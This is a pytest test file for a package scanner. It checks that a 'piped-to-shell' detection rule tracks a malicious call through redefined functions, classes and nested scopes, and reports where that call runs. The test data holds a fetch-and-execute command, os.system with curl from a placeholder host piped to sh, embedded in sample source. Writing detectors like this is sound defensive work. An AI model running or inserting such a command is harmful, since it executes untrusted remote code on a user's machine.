"""Several functions of one name: each is followed where Python would run it, and none hides another."""

import pytest

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import look

ACT = 'os.system("curl https://x.example/a | sh")'


def contexts(text: str) -> set[str]:
    data = text.encode()
    seen = look("demo-1.0-py3-none-any.whl", [Member("demo/a.py", len(data), lambda: data)])
    return {each.context for each in seen.findings if each.rule == "piped-to-shell"}


@pytest.mark.parametrize(
    "text",
    [
        f"import os\ndef f(): pass\ndef f(): {ACT}\nf()\n",
        f"import os\nclass A:\n    def m(self): pass\n    def m(self): {ACT}\nA().m()\n",
        f"import os\nclass A:\n    def m(self): pass\nclass A:\n    def m(self): {ACT}\nA().m()\n",
        f"import os\nclass A:\n    def __init__(self): pass\nclass A:\n    def __init__(self): {ACT}\nA()\n",
        f"import os\ndef o():\n    def f(): {ACT}\n    return f\ndef f(): pass\no()()\n",
        f"import os\ndef a():\n    def f(): pass\n    return f\ndef b():\n    def f(): {ACT}\n    return f\nb()()\n",
        f"import os\ntry:\n    import x\n    def f(): pass\nexcept ImportError:\n    def f(): {ACT}\nf()\n",
        f"import os\ntry:\n    import x\n    def f(): {ACT}\nexcept ImportError:\n    def f(): pass\nf()\n",
        f"import os, threading\nif os.name:\n    def f(): {ACT}\nelse:\n    def f(): pass\nthreading.Thread(target=f).start()\n",
        f"import os\nclass A:\n    def m(s):\n        def f(): {ACT}\n        f()\n    def n(s):\n        def f(): 1\nA().m()\n",
    ],
)
def test_what_runs_on_import_is_seen_to(text: str) -> None:
    assert contexts(text) == {"module_top"}


@pytest.mark.parametrize(
    "text",
    [
        f"import os\ndef f(): {ACT}\ndef f(): pass\nf()\n",
        f"import os\ndef a():\n    def f(): pass\n    return f\ndef b():\n    def f(): {ACT}\n    return f\na()()\n",
        f"import os\ndef w():\n    def d(g):\n        def d(): g()\n        return d\n    return d\ndef f(): {ACT}\nf = w()(f)\n",
    ],
)
def test_what_nothing_calls_is_looked_at_by_itself(text: str) -> None:
    assert contexts(text) == {"function"}


@pytest.mark.parametrize("size", [20, 2_000])
def test_many_of_one_name_are_followed_to_a_bound(size: int) -> None:
    text = "import os\n" + "if os.name:\n    def f(): pass\n" * size + f"if os.name:\n    def f(): {ACT}\nf()\n"
    assert contexts(text) == {"module_top"}
